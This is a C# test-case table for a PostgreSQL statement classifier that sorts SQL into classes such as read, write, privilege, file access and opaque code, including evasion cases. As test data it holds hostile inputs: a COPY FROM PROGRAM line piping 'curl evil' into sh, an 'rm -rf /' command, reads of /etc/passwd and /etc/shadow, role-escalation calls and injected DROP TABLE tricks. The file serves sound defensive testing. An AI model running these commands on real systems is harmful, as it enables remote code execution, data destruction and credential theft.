using Gatehouse.Policy.Sql;
using C = Gatehouse.Policy.Sql.StatementClass;
using S = Gatehouse.Policy.Sql.StatementShape;

namespace Gatehouse.Tests.Sql;

/// <summary>The classification table: statement text, standard_conforming_strings, expected classes and shapes (union over all statements).</summary>
internal static class SqlClassifierCases
{
    public static TheoryData<string, bool, C, S> All()
    {
        var d = new TheoryData<string, bool, C, S>();

        // Reads.
        d.Add("SELECT 1", true, C.Read, S.None);
        d.Add("select * from t where id = $1", true, C.Read, S.None);
        d.Add("SeLeCt a FrOm b", true, C.Read, S.None);
        d.Add("  \n\t SELECT\n*\nFROM\tt  ", true, C.Read, S.None);
        d.Add("VALUES (1, 2), (3, 4)", true, C.Read, S.None);
        d.Add("TABLE orders", true, C.Read, S.None);
        d.Add("SHOW search_path", true, C.Read, S.None);
        d.Add("(SELECT 1) UNION (SELECT 2)", true, C.Read, S.None);
        d.Add("((SELECT 1))", true, C.Read, S.None);
        d.Add("SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN c USING (id)", true, C.Read, S.None);
        d.Add("SELECT count(*) FROM public.orders o WHERE o.total > 10", true, C.Read, S.None);
        d.Add("SELECT * FROM t FOR UPDATE", true, C.Read, S.None);
        d.Add("SELECT * FROM t FOR UPDATE SKIP LOCKED", true, C.Read, S.None);
        d.Add("SELECT 'DELETE FROM t'", true, C.Read, S.None);
        d.Add("SELECT \"delete\" FROM t", true, C.Read, S.None);
        d.Add("SELECT $$; DROP TABLE t; $$", true, C.Read, S.None);
        d.Add("SELECT $tag$ '; DROP TABLE t; -- $tag$", true, C.Read, S.None);
        d.Add("SELECT $a$ $b$ ; $b$ $a$", true, C.Read, S.None);
        d.Add("SELECT 1 /* ; DROP TABLE t */", true, C.Read, S.None);
        d.Add("SELECT 1 /* /* nested */ ; DROP TABLE t */", true, C.Read, S.None);
        d.Add("SELECT 1 -- ; DROP TABLE t", true, C.Read, S.None);
        d.Add("SELECT 1 --\n", true, C.Read, S.None);
        d.Add("/* leading */ SELECT 1", true, C.Read, S.None);
        d.Add("-- leading\nSELECT 1", true, C.Read, S.None);
        d.Add("SELECT E'\\''", true, C.Read, S.None);
        d.Add("SELECT E'\\'; DROP TABLE t; --'", true, C.Read, S.None);
        d.Add("SELECT e'\\\\'", true, C.Read, S.None);
        d.Add("SELECT 'it''s'", true, C.Read, S.None);
        d.Add("SELECT U&'d\\0061t\\+000061'", true, C.Read, S.None);
        d.Add("SELECT B'1010', X'ff'", true, C.Read, S.None);
        d.Add("SELECT N'national'", true, C.Read, S.None);
        d.Add("SELECT 'a'\n'b'", true, C.Read, S.None);
        d.Add("SELECT 1.5e10, .5, 0x1F, 1_000", true, C.Read, S.None);
        d.Add("SELECT a::text, b->>'k' FROM t", true, C.Read, S.None);
        d.Add("SELECT föö FROM täble", true, C.Read, S.None);
        d.Add("SELECT foo$$bar FROM t", true, C.Read, S.None);
        d.Add("WITH x AS (SELECT 1) SELECT * FROM x", true, C.Read, S.None);
        d.Add("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r", true, C.Read, S.None);
        d.Add("EXPLAIN SELECT * FROM t", true, C.Read, S.None);
        d.Add("EXPLAIN DELETE FROM t", true, C.Read, S.None);
        d.Add("EXPLAIN (COSTS OFF) UPDATE t SET a = 1", true, C.Read, S.None);
        d.Add("EXPLAIN ANALYZE SELECT * FROM t", true, C.Read, S.None);
        d.Add("EXPLAIN (ANALYZE, BUFFERS) SELECT 1", true, C.Read, S.None);
        d.Add("DECLARE c CURSOR FOR SELECT * FROM t", true, C.Read, S.None);
        d.Add("FETCH 10 FROM c", true, C.Read, S.None);
        d.Add("SELECT * FROM generate_series(1, 10)", true, C.Read, S.None);
        d.Add("SELECT extract(year FROM now())", true, C.Read, S.None);
        d.Add("SELECT current_setting('role')", true, C.Read, S.None);

        // Writes and shapes.
        d.Add("INSERT INTO t (a, b) VALUES (1, 2)", true, C.Write, S.None);
        d.Add("insert into s.t select * from u", true, C.Write, S.None);
        d.Add("UPDATE t SET a = 1 WHERE id = 2", true, C.Write, S.None);
        d.Add("UPDATE t SET a = 1", true, C.Write, S.UpdateWithoutWhere);
        d.Add("UPDATE t SET a = (SELECT 1 WHERE true)", true, C.Write, S.UpdateWithoutWhere);
        d.Add("UPDATE t SET a = u.a FROM u WHERE t.id = u.id", true, C.Write, S.None);
        d.Add("DELETE FROM t WHERE id = 1", true, C.Write, S.None);
        d.Add("DELETE FROM t", true, C.Write, S.DeleteWithoutWhere);
        d.Add("delete from t", true, C.Write, S.DeleteWithoutWhere);
        d.Add("DELETE\nFROM\nt\n", true, C.Write, S.DeleteWithoutWhere);
        d.Add("DELETE FROM t WHERE CURRENT OF c", true, C.Write, S.None);
        d.Add("DELETE FROM t USING u WHERE t.id = u.id", true, C.Write, S.None);
        d.Add("DELETE FROM t WHERE id IN (SELECT id FROM u)", true, C.Write, S.None);
        d.Add("DELETE FROM t RETURNING *", true, C.Write, S.DeleteWithoutWhere);
        d.Add("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", true, C.Write, S.None);
        d.Add("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", true, C.Write, S.None);
        d.Add("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", true, C.Read | C.Write, S.DeleteWithoutWhere);
        d.Add("WITH x AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM x", true, C.Read | C.Write, S.None);
        d.Add("WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT 1", true, C.Read | C.Write, S.UpdateWithoutWhere);
        d.Add("WITH x AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM x", true, C.Read | C.Write, S.None);
        d.Add("WITH x AS MATERIALIZED (SELECT 1) DELETE FROM t", true, C.Write, S.DeleteWithoutWhere);
        d.Add("WITH a AS (SELECT 1), b AS (SELECT 2) INSERT INTO t SELECT * FROM a", true, C.Write, S.None);
        d.Add("WITH x AS (SELECT 1) UPDATE t SET a = 1 WHERE id = 1", true, C.Write, S.None);
        d.Add("SELECT * INTO newtable FROM t", true, C.Read | C.Ddl | C.Write, S.None);
        d.Add("REFRESH MATERIALIZED VIEW mv", true, C.Write, S.None);

        // DDL.
        d.Add("CREATE TABLE t (id int primary key, name varchar(20))", true, C.Ddl, S.None);
        d.Add("CREATE TEMP TABLE t AS SELECT * FROM u", true, C.Ddl, S.None);
        d.Add("CREATE INDEX CONCURRENTLY i ON t (a)", true, C.Ddl, S.None);
        d.Add("CREATE VIEW v AS SELECT 1", true, C.Ddl, S.None);
        d.Add("ALTER TABLE t ADD COLUMN c int", true, C.Ddl, S.None);
        d.Add("ALTER TABLE t OWNER TO mallory", true, C.Ddl | C.Privilege, S.None);
        d.Add("DROP TABLE t", true, C.Ddl, S.Drop);
        d.Add("DROP TABLE IF EXISTS a, b CASCADE", true, C.Ddl, S.Drop);
        d.Add("drop view v", true, C.Ddl, S.Drop);
        d.Add("TRUNCATE t", true, C.Ddl | C.Write, S.Truncate);
        d.Add("TRUNCATE TABLE a, b RESTART IDENTITY", true, C.Ddl | C.Write, S.Truncate);
        d.Add("COMMENT ON TABLE t IS 'x'", true, C.Ddl, S.None);
        d.Add("SECURITY LABEL ON TABLE t IS 'x'", true, C.Ddl, S.None);
        d.Add("CREATE SCHEMA s", true, C.Ddl, S.None);
        d.Add("CREATE USER MAPPING FOR bob SERVER s", true, C.Ddl, S.None);
        d.Add("IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y", true, C.Ddl, S.None);

        // Privilege.
        d.Add("GRANT SELECT ON t TO bob", true, C.Privilege, S.None);
        d.Add("REVOKE ALL ON t FROM bob", true, C.Privilege, S.None);
        d.Add("CREATE ROLE admin SUPERUSER", true, C.Privilege, S.None);
        d.Add("CREATE USER u PASSWORD 'x'", true, C.Privilege, S.None);
        d.Add("ALTER ROLE bob SUPERUSER", true, C.Privilege, S.None);
        d.Add("ALTER USER bob WITH PASSWORD 'x'", true, C.Privilege, S.None);
        d.Add("DROP ROLE bob", true, C.Privilege, S.Drop);
        d.Add("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", true, C.Privilege, S.None);
        d.Add("REASSIGN OWNED BY a TO b", true, C.Privilege, S.None);
        d.Add("SET ROLE admin", true, C.Privilege, S.None);
        d.Add("set role admin", true, C.Privilege, S.None);
        d.Add("SET SESSION ROLE admin", true, C.Privilege, S.None);
        d.Add("SET LOCAL ROLE admin", true, C.Privilege, S.None);
        d.Add("SET role = 'admin'", true, C.Privilege, S.None);
        d.Add("SET \"role\" TO admin", true, C.Privilege, S.None);
        d.Add("SET SESSION AUTHORIZATION admin", true, C.Privilege, S.None);
        d.Add("SET session_authorization = admin", true, C.Privilege, S.None);
        d.Add("RESET ROLE", true, C.Privilege, S.None);
        d.Add("RESET SESSION AUTHORIZATION", true, C.Privilege, S.None);
        d.Add("SELECT set_config('role', 'admin', false)", true, C.Read | C.Privilege, S.None);
        d.Add("SELECT SET_CONFIG('ROLE', 'admin', false)", true, C.Read | C.Privilege, S.None);
        d.Add("SELECT pg_catalog.set_config('role', 'admin', false)", true, C.Read | C.Privilege, S.None);
        d.Add("SELECT \"set_config\"('role', 'admin', false)", true, C.Read | C.Privilege, S.None);
        d.Add("SELECT set_config /* x */ ( 'session_authorization', 'admin', false)", true, C.Read | C.Privilege, S.None);
        d.Add("SELECT set_config('ro' || 'le', 'admin', false)", true, C.Read | C.Privilege, S.None);
        d.Add("SELECT set_config($$role$$, 'admin', false)", true, C.Read | C.Privilege, S.None);
        d.Add("SELECT set_config(E'\\x72ole', 'admin', false)", true, C.Read | C.Privilege, S.None);
        d.Add("SELECT set_config($1, $2, false)", true, C.Read | C.Privilege, S.None);
        // search_path decides which functions unqualified names call: a value that is not a literal plain list with
        // pg_catalog first (or absent) is a privilege matter.
        d.Add("SELECT set_config('search_path', 'public', false)", true, C.Read | C.Privilege, S.None);
        d.Add("SET search_path TO app, public", true, C.Session, S.None);
        d.Add("SET search_path = pg_catalog, public, \"App\"", true, C.Session, S.None);
        d.Add("SET search_path = 'pg_catalog', 'public'", true, C.Session, S.None);
        d.Add("SET search_path TO public, pg_catalog", true, C.Privilege, S.None);
        d.Add("SET LOCAL search_path = evil, PG_CATALOG", true, C.Privilege, S.None);
        d.Add("set SESSION search_path to evil, \"pg_catalog\"", true, C.Privilege, S.None);
        d.Add("SET search_path = 'evil', 'pg_catalog'", true, C.Privilege, S.None);
        d.Add("SET \"search_path\" = a, /* x */ pg_catalog", true, C.Privilege, S.None);
        d.Add("SET search_path FROM CURRENT", true, C.Privilege, S.None);
        d.Add("SET search_path TO DEFAULT", true, C.Session, S.None);
        d.Add("SELECT * FROM t WHERE x = (SELECT set_config('role', 'a', true))", true, C.Read | C.Privilege, S.None);
        d.Add("DISCARD ALL", true, C.Session | C.Privilege, S.None);

        // Admin.
        d.Add("VACUUM FULL t", true, C.Admin, S.None);
        d.Add("ANALYZE t", true, C.Admin, S.None);
        d.Add("CLUSTER t USING i", true, C.Admin, S.None);
        d.Add("REINDEX TABLE t", true, C.Admin, S.None);
        d.Add("CHECKPOINT", true, C.Admin, S.None);
        d.Add("LOAD 'auto_explain'", true, C.Admin, S.None);
        d.Add("ALTER SYSTEM SET work_mem = '1GB'", true, C.Admin, S.None);
        d.Add("CREATE DATABASE d", true, C.Admin | C.Ddl, S.None);
        d.Add("DROP DATABASE d", true, C.Admin | C.Ddl, S.Drop);
        d.Add("CREATE EXTENSION dblink", true, C.Admin | C.Ddl, S.None);
        d.Add("SELECT pg_terminate_backend(123)", true, C.Read | C.Admin, S.None);
        d.Add("SELECT pg_reload_conf()", true, C.Read | C.Admin, S.None);

        // COPY.
        d.Add("COPY t TO STDOUT", true, C.Copy | C.Read, S.None);
        d.Add("COPY t (a, b) FROM STDIN WITH (FORMAT csv)", true, C.Copy | C.Write, S.None);
        d.Add("COPY (SELECT * FROM t) TO STDOUT", true, C.Copy | C.Read, S.None);
        d.Add("copy t from stdin", true, C.Copy | C.Write, S.None);
        d.Add("COPY t TO '/tmp/out'", true, C.Copy | C.Read | C.FileAccess, S.None);
        d.Add("COPY t FROM '/etc/passwd'", true, C.Copy | C.Write | C.FileAccess, S.None);
        d.Add("COPY t FROM PROGRAM 'curl evil | sh'", true, C.Copy | C.Write | C.FileAccess | C.OpaqueCode, S.None);
        d.Add("COPY (SELECT 1) TO PROGRAM 'rm -rf /'", true, C.Copy | C.Read | C.FileAccess | C.OpaqueCode, S.None);
        d.Add("COPY t TO E'/tmp/\\'x'", true, C.Copy | C.Read | C.FileAccess, S.None);
        d.Add("COPY t", true, C.Copy | C.Unknown, S.None);

        // Opaque code.
        d.Add("DO $$ BEGIN DELETE FROM t; END $$", true, C.OpaqueCode, S.None);
        d.Add("DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DROP TABLE t'; END $body$", true, C.OpaqueCode, S.None);
        d.Add("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", true, C.Ddl | C.OpaqueCode, S.None);
        d.Add("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END", true, C.Ddl | C.OpaqueCode, S.None);
        d.Add("CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END; SELECT 1", true, C.Ddl | C.OpaqueCode | C.Read, S.None);
        d.Add("CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM u WHERE a = 1; DELETE FROM v WHERE a = 1)", true, C.Ddl | C.OpaqueCode | C.Write, S.None);
        d.Add("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", true, C.Ddl | C.OpaqueCode, S.None);
        d.Add("CREATE CONSTRAINT TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", true, C.Ddl | C.OpaqueCode, S.None);
        d.Add("PREPARE p AS SELECT 1", true, C.OpaqueCode, S.None);
        d.Add("PREPARE p (int) AS DELETE FROM t WHERE id = $1", true, C.OpaqueCode | C.Write, S.None);
        d.Add("EXECUTE p(1)", true, C.OpaqueCode, S.None);
        d.Add("CALL proc(1)", true, C.OpaqueCode, S.None);
        d.Add("EXPLAIN ANALYZE DELETE FROM t", true, C.Write | C.OpaqueCode, S.DeleteWithoutWhere);
        d.Add("EXPLAIN ANALYSE VERBOSE UPDATE t SET a = 1 WHERE b = 2", true, C.Write | C.OpaqueCode, S.None);
        d.Add("EXPLAIN (ANALYZE true, BUFFERS) INSERT INTO t VALUES (1)", true, C.Write | C.OpaqueCode, S.None);
        d.Add("EXPLAIN (FORMAT json, ANALYZE) WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x", true, C.Read | C.Write | C.OpaqueCode, S.DeleteWithoutWhere);
        d.Add("EXPLAIN ANALYZE EXECUTE p", true, C.OpaqueCode, S.None);
        d.Add("CREATE TABLE t AS EXECUTE p", true, C.Ddl | C.OpaqueCode, S.None);
        d.Add("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", true, C.Read | C.OpaqueCode, S.None);
        d.Add("SELECT * FROM dblink('dbname=x', 'DROP TABLE t') AS r(a text)", true, C.Read | C.OpaqueCode, S.None);

        // File access.
        d.Add("SELECT pg_read_file('/etc/passwd')", true, C.Read | C.FileAccess, S.None);
        d.Add("SELECT pg_read_binary_file('/etc/passwd')", true, C.Read | C.FileAccess, S.None);
        d.Add("SELECT * FROM pg_ls_dir('.')", true, C.Read | C.FileAccess, S.None);
        d.Add("SELECT pg_stat_file('postgresql.conf')", true, C.Read | C.FileAccess, S.None);
        d.Add("SELECT lo_import('/etc/passwd')", true, C.Read | C.FileAccess, S.None);
        d.Add("SELECT lo_export(12345, '/tmp/x')", true, C.Read | C.FileAccess, S.None);
        d.Add("SELECT lo_from_bytea(0, 'x')", true, C.Read | C.FileAccess, S.None);
        d.Add("SELECT PG_READ_FILE ( '/etc/passwd' )", true, C.Read | C.FileAccess, S.None);
        d.Add("SELECT pg_catalog.\"pg_read_file\"('/etc/passwd')", true, C.Read | C.FileAccess, S.None);
        d.Add("SELECT \"PG_READ_FILE\"('/etc/passwd')", true, C.Read, S.None);
        d.Add("SELECT 'pg_read_file(1)'", true, C.Read, S.None);
        d.Add("INSERT INTO t SELECT lo_import('/etc/shadow')", true, C.Write | C.FileAccess, S.None);

        // Transactions and session.
        d.Add("BEGIN", true, C.Transaction, S.None);
        d.Add("BEGIN ISOLATION LEVEL SERIALIZABLE", true, C.Transaction, S.None);
        d.Add("START TRANSACTION READ ONLY", true, C.Transaction, S.None);
        d.Add("COMMIT", true, C.Transaction, S.None);
        d.Add("END", true, C.Transaction, S.None);
        d.Add("ROLLBACK TO SAVEPOINT s", true, C.Transaction, S.None);
        d.Add("SAVEPOINT s", true, C.Transaction, S.None);
        d.Add("RELEASE SAVEPOINT s", true, C.Transaction, S.None);
        d.Add("ABORT", true, C.Transaction, S.None);
        d.Add("PREPARE TRANSACTION 'gid'", true, C.Transaction, S.None);
        d.Add("COMMIT PREPARED 'gid'", true, C.Transaction, S.None);
        d.Add("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", true, C.Transaction, S.None);
        d.Add("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", true, C.Transaction | C.Session, S.None);
        d.Add("SET search_path TO public", true, C.Session, S.None);
        d.Add("SET LOCAL statement_timeout = 5", true, C.Session, S.None);
        d.Add("RESET ALL", true, C.Session, S.None);
        d.Add("RESET work_mem", true, C.Session, S.None);
        d.Add("DISCARD PLANS", true, C.Session, S.None);
        d.Add("LISTEN chan", true, C.Session, S.None);
        d.Add("NOTIFY chan, 'x'", true, C.Session, S.None);
        d.Add("DEALLOCATE ALL", true, C.Session, S.None);
        d.Add("CLOSE c", true, C.Session, S.None);

        // Multi-statements: the union of every statement.
        d.Add("SELECT 1; DROP TABLE t", true, C.Read | C.Ddl, S.Drop);
        d.Add("SELECT 1;DELETE FROM t", true, C.Read | C.Write, S.DeleteWithoutWhere);
        d.Add("SELECT 1; ; ;", true, C.Read, S.None);
        d.Add("BEGIN; UPDATE t SET a = 1 WHERE b = 2; COMMIT;", true, C.Transaction | C.Write, S.None);
        d.Add("SELECT ';'; SELECT \";\" FROM t", true, C.Read, S.None);
        d.Add("SELECT 1 /* */; /* ; */ SET ROLE admin", true, C.Read | C.Privilege, S.None);
        d.Add("SELECT 1 -- comment ; still comment\n; TRUNCATE t", true, C.Read | C.Ddl | C.Write, S.Truncate);

        // Evasions: comments inside keyword positions split words, as in the server.
        d.Add("DE/**/LETE FROM t", true, C.Unknown, S.None);
        d.Add("SEL/**/ECT 1", true, C.Unknown, S.None);
        d.Add("SELECT 1; DE--x\nLETE FROM t", true, C.Read | C.Unknown, S.None);
        d.Add("/**/DELETE/**/FROM/**/t", true, C.Write, S.DeleteWithoutWhere);
        d.Add("DELETE--\nFROM t", true, C.Write, S.DeleteWithoutWhere);
        d.Add("\"DELETE\" FROM t", true, C.Unknown, S.None);
        d.Add("\"delete\" FROM t", true, C.Unknown, S.None);
        d.Add("SELECT 1 /* /* */ DROP TABLE t */", true, C.Read, S.None);
        d.Add("SELECT 1 /* /* */ */ ; DROP TABLE t", true, C.Read | C.Ddl, S.Drop);
        // A stray "*/" is an operator token; the server rejects the text, the union still shows the DROP.
        d.Add("SELECT 1 /* */ */ ; DROP TABLE t", true, C.Read | C.Ddl, S.Drop);
        d.Add("SELECT $$ $$; DROP TABLE t; $$", true, C.Read | C.Ddl | C.Unknown, S.Drop);
        d.Add("SELECT $1; DROP TABLE t; $1", true, C.Read | C.Ddl | C.Unknown, S.Drop);
        d.Add("SELECT $1abc", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT $1a$ ; DROP TABLE t; $1a$", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT $_$ ; DROP TABLE t; $_$", true, C.Read, S.None);
        d.Add("SELECT 123abc", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT 1 FROM t WHERE a = 'x' ; DROP TABLE t", true, C.Read | C.Ddl, S.Drop);
        d.Add("SELECT 1 FROM t WHERE a = E'\\'' ; DROP TABLE t", true, C.Read | C.Ddl, S.Drop);
        d.Add("SELECT 1 FROM t WHERE a = E'\\' ; DROP TABLE t ; --'", true, C.Read, S.None);
        d.Add("SELECT e'\\'' ; DROP TABLE t", true, C.Read | C.Ddl, S.Drop);
        d.Add("SELECT 'a\\' ; DROP TABLE t ; --'", true, C.Read | C.Ddl, S.Drop);
        d.Add("SELECT 'a\\' ; DROP TABLE t ; --'", false, C.Read, S.None);
        d.Add("SELECT 'a\\'' ; DROP TABLE t", false, C.Read | C.Ddl, S.Drop);
        d.Add("SELECT 'a\\'' ; DROP TABLE t", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT N'\\' ; DROP TABLE t ; --'", false, C.Read, S.None);
        d.Add("SELECT U&'\\' ; DROP TABLE t", true, C.Read | C.Ddl, S.Drop);
        d.Add("SELECT B'1\\' ; DROP TABLE t", false, C.Read | C.Ddl, S.Drop);
        d.Add("SELECT E'x'\n'\\' ; DROP TABLE t ; --'", true, C.Read, S.None);
        d.Add("SELECT E'x' '\\' ; DROP TABLE t", true, C.Read | C.Ddl, S.Drop);
        d.Add("SELECT 'x' -- c\n'y' ; DELETE FROM t", true, C.Read | C.Write, S.DeleteWithoutWhere);
        d.Add("SELECT 1 +-- comment\n2", true, C.Read, S.None);
        d.Add("SELECT (1; DROP TABLE t)", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT 1); DROP TABLE t", true, C.Read | C.Ddl | C.Unknown, S.Drop);
        d.Add("FOO BAR", true, C.Unknown, S.None);
        d.Add("SELECT 1 \\g", true, C.Read | C.Unknown, S.None);
        d.Add("U&\"d\\0065lete\" FROM t", true, C.Unknown, S.None);

        d.Add("delete/**/from t where/**/a=1", true, C.Write, S.None);
        d.Add("SeT RoLe admin", true, C.Privilege, S.None);
        d.Add("WITH x AS (SELECT 1) SELECT 1; WITH y AS (DELETE FROM t WHERE a = 1) SELECT 1", true, C.Read | C.Write, S.None);
        d.Add("WITH x AS (SELECT 1)", true, C.Unknown, S.None);
        d.Add("SELECT 1 AS \"update\" FROM t", true, C.Read, S.None);
        d.Add("SELECT $1$ DROP TABLE t $1$", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT '\\\\'; DELETE FROM t; --'", false, C.Read | C.Write, S.DeleteWithoutWhere);
        d.Add("SELECT '\\'; DELETE FROM t; --'", false, C.Read, S.None);
        d.Add("SELECT E'\\\\'; DELETE FROM t", true, C.Read | C.Write, S.DeleteWithoutWhere);

        d.Add("CREATE VIEW v AS SELECT begin atomic FROM x; DROP TABLE t", true, C.Ddl, S.Drop);
        d.Add("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END; DROP TABLE t", true, C.Ddl | C.OpaqueCode, S.Drop);

        // Unterminated constructs are errors: Unknown (with whatever was understood before the error).
        d.Add("SELECT 'abc", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT E'abc\\'", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT \"abc", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT $$abc", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT $x$abc$y$", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT 1 /* abc", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT 1 /* /* */", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT 1; SELECT 'x", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT \"\"", true, C.Read | C.Unknown, S.None);
        d.Add("SELECT 1 " + string.Concat(Enumerable.Repeat("/*", 65)) + string.Concat(Enumerable.Repeat("*/", 65)), true, C.Read | C.Unknown, S.None);
        d.Add("SELECT 1 " + string.Concat(Enumerable.Repeat("/*", 64)) + string.Concat(Enumerable.Repeat("*/", 64)), true, C.Read, S.None);
        d.Add("SELECT 'a\0b'", true, C.Unknown, S.None);
        d.Add("SELECT 1 -- \0\n; DROP TABLE t", true, C.Unknown, S.None);
        d.Add("SELECT U&'x'", false, C.Read | C.Unknown, S.None);
        d.Add("ALTER DATABASE d SET role = admin", true, C.Admin | C.Ddl | C.Privilege, S.None);
        d.Add("ALTER ROLE bob SET search_path = public", true, C.Privilege, S.None);
        return d;
    }
}
